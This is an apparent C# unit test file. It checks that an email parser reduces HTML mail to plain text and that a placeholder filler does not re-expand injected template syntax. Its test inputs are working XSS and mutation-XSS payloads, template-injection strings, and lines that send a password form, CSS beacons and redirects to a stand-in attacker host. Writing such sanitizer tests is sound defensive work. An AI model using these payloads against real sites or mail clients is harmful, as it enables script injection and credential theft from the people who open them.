using System.Text;
using OmniFunctions.Channels.Email;
using OmniFunctions.Policies;
using static OmniFunctions.Tests.Specs.Channels.Requests;

namespace OmniFunctions.Tests.Specs.Access;

/// <summary>Text that means to be more than text. The number is that of the attack in docs/security.md.</summary>
public sealed class HostileTextSpecs
{
    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<p onclick='alert(1)'>word</p>")]
    [InlineData("<svg><p><style><a id=\"</style><img src=1 onerror=alert(1)>\">")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>")]
    [InlineData("<base href='https://evil.example/'><a href='x'>word</a>")]
    [InlineData("<form action='https://evil.example/'><input name=password><button>word</button></form>")]
    [InlineData("<style>*{background:url(https://evil.example/?a)}</style>word")]
    [InlineData("<meta http-equiv=refresh content='0;url=https://evil.example/'>word")]
    [InlineData("<iframe srcdoc='<script>alert(1)</script>'></iframe>")]
    [InlineData("<object data='data:text/html,<script>alert(1)</script>'>word</object>")]
    [InlineData("<a href='java&#10;script:alert(1)'>word</a>")]
    [InlineData("<a href='data:text/html,<script>alert(1)</script>'>word</a>")]
    [InlineData("<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">")]
    [InlineData("<template><img src=x onerror=alert(1)></template>word")]
    public void T20_mail_that_is_a_page_is_read_as_its_words(string html)
    {
        var mail = Encoding.UTF8.GetBytes($"From: li@example.com\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{html} and the end");
        var item = EmailChannel.Mime.Parse(Post(mail), mail, Account("email-mime")).Only();

        // What a page would do with it is none of the words; the desk shows what is left as a text node all the same.
        foreach (var active in (string[])["<script", "<iframe", "<style", "<form", "<base", "<meta", "javascript:", "data:text/html", "url(", "srcdoc"])
            Assert.DoesNotContain(active, item.Text ?? "", StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("{agent}")]
    [InlineData("{{agent}}")]
    [InlineData("{queue|{agent}}")]
    [InlineData("${7*7}")]
    [InlineData("{{constructor.constructor('return 1')()}}")]
    [InlineData("<%= 7*7 %>")]
    public void T29_what_is_put_into_a_text_is_not_read_as_a_placeholder_again(string name) =>
        Assert.Equal($"Hello {name}, this is Ana.", new Placeholders(Name: name, Agent: "Ana", Queue: "secret").Fill("Hello {name}, this is {agent}.", "en"));
}
